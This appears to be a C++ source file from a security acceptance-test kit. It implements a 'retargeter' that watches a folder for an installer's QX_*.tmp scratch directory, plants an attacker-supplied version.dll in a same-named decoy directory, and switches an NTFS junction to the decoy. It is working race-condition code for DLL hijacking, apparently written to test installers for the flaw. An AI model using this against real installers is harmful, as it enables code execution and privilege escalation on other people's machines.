#include "acceptance/retarget.h"

#include "acceptance/links.h"
#include "acceptance/work_folder.h"

namespace kit {

namespace {

constexpr DWORD STOP_WAIT_MS = 10000;
const wchar_t WAKE[] = L"retarget-wake";

bool IsScratchName(const wchar_t* name, int units) {
    if (units != 12 || name[0] != L'Q' || name[1] != L'X' || name[2] != L'_') return false;
    return name[8] == L'.' && name[9] == L't' && name[10] == L'm' && name[11] == L'p';
}

// The decoy's directory of the same name, with a library of the attacker's
// beside where setup.exe would go, then the junction turned to the decoy.
void GoFor(Retargeter& retargeter, const wchar_t* name, int units) {
    if (InterlockedExchange(&retargeter.armed, 0) == 0) return;
    retargeter.name.Clear();
    retargeter.name.AddUnits(name, units);
    Path directory(retargeter.decoy, retargeter.name.Get());
    CreateDirectoryW(directory.Get(), nullptr);
    Path library(directory.Get(), L"version.dll");
    CopyFileW(retargeter.library, library.Get(), FALSE);
    Path marker(directory.Get(), L"decoy.txt");
    WriteSmallFile(marker.Get(), "the decoy's");
    retargeter.error = SetJunctionTarget(retargeter.via, retargeter.decoy);
    LARGE_INTEGER now = {};
    QueryPerformanceCounter(&now);
    retargeter.retargetedAt = retargeter.error == 0 ? static_cast<uint64_t>(now.QuadPart) : 0;
}

DWORD WINAPI Watch(void* parameter) {
    Retargeter& retargeter = *static_cast<Retargeter*>(parameter);
    HANDLE folder = CreateFileW(retargeter.real, FILE_LIST_DIRECTORY,
                                FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr, OPEN_EXISTING,
                                FILE_FLAG_BACKUP_SEMANTICS, nullptr);
    if (folder == INVALID_HANDLE_VALUE) {
        retargeter.watchError = GetLastError();
        return 0;
    }
    alignas(DWORD) static unsigned char changes[16384];
    while (retargeter.stop == 0) {
        DWORD bytes = 0;
        if (!ReadDirectoryChangesW(folder, changes, sizeof(changes), FALSE, FILE_NOTIFY_CHANGE_DIR_NAME, &bytes,
                                   nullptr, nullptr)) {
            retargeter.watchError = GetLastError();
            break;
        }
        for (DWORD offset = 0; bytes != 0;) {
            const auto* change = reinterpret_cast<const FILE_NOTIFY_INFORMATION*>(changes + offset);
            const int units = static_cast<int>(change->FileNameLength / sizeof(wchar_t));
            if (change->Action == FILE_ACTION_ADDED && IsScratchName(change->FileName, units)) {
                GoFor(retargeter, change->FileName, units);
            }
            if (change->NextEntryOffset == 0) break;
            offset += change->NextEntryOffset;
        }
    }
    CloseHandle(folder);
    return 0;
}

}  // namespace

void StartRetargeter(Retargeter& retargeter) {
    retargeter.armed = 0;
    retargeter.stop = 0;
    retargeter.retargetedAt = 0;
    retargeter.error = 0;
    retargeter.watchError = 0;
    retargeter.name.Clear();
    retargeter.thread = CreateThread(nullptr, 0, Watch, &retargeter, 0, nullptr);
    if (retargeter.thread == nullptr) retargeter.watchError = GetLastError();
    // Time for the watch to be in place before the first run.
    Sleep(500);
}

DWORD ArmRetargeter(Retargeter& retargeter) {
    RemoveTree(retargeter.decoy);
    CreateDirectoryW(retargeter.decoy, nullptr);
    retargeter.retargetedAt = 0;
    retargeter.error = 0;
    retargeter.name.Clear();
    const DWORD error = SetJunctionTarget(retargeter.via, retargeter.real);
    InterlockedExchange(&retargeter.armed, error == 0 ? 1 : 0);
    return error;
}

void StopRetargeter(Retargeter& retargeter, Facts& facts, const wchar_t* prefix) {
    InterlockedExchange(&retargeter.armed, 0);
    if (retargeter.thread != nullptr) {
        retargeter.stop = 1;
        // A change in the folder wakes the watch to see that it must stop.
        Path wake(retargeter.real, WAKE);
        CreateDirectoryW(wake.Get(), nullptr);
        if (WaitForSingleObject(retargeter.thread, STOP_WAIT_MS) != WAIT_OBJECT_0 && retargeter.watchError == 0) {
            retargeter.watchError = WAIT_TIMEOUT;
        }
        RemoveDirectoryW(wake.Get());
        CloseHandle(retargeter.thread);
    }
    facts.SetNumber(prefix, L"watch-error", retargeter.watchError);
}

}  // namespace kit
